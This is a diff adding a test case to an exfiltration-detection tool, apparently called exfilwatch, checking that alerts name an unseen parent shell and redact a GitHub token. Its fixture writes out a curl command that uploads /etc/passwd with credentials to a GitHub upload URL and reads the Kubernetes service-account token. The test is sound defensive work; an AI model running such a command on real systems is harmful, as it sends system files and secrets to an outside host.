@@ -47,3 +47,29 @@ describe("a push's parents in the response", () => {
     expect(parents('tetragon')).toBeDefined();
   });
 });
+
+/** A push whose parent the tables never held: a shell started before exfilwatch (no exec, no event of its own). */
+function pushUnderUnseenShell(source: SensorSource) {
+  const s = new Scenario({ source });
+  const c = s.container({ name: 'debug' });
+  const shell = s.init(c, '/bin/bash', '-c "sleep 1d; exit"');
+  const curl = s.exec(
+    c,
+    '/usr/bin/curl',
+    '-T /etc/passwd -u bob:Hunter2Secret https://uploads.github.com/repos/e/l/releases/1/assets?name=d',
+    { parent: shell, parentArgs: '-c "GITHUB_TOKEN=ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789 curl …"' },
+  );
+  s.read(curl, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
+  s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 2 * MiB);
+  return run(s.events).alerts;
+}
+
+describe('a parent the tables do not hold', () => {
+  it.each(['tetragon', 'falco'] as SensorSource[])("%s: the push event's own parent fields name it", (source) => {
+    const [a] = pushUnderUnseenShell(source);
+    expect(a?.process.binary).toBe('/usr/bin/curl');
+    const first = a?.response[0] ?? '';
+    expect(first).toContain(', started by `/bin/bash -c "GITHUB_TOKEN=[REDACTED] curl …"`, in pod');
+    expect(first).not.toContain('ghp_');
+  });
+});
